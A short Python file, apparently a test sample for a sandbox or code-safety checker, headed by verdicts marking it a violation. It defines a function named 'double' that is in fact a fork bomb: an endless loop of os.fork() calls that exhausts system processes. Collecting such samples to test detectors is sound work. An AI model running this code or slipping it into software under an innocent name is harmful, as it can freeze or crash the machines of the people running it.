# verdicts: violation violation violation not_run
import os
import time


def double(n):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
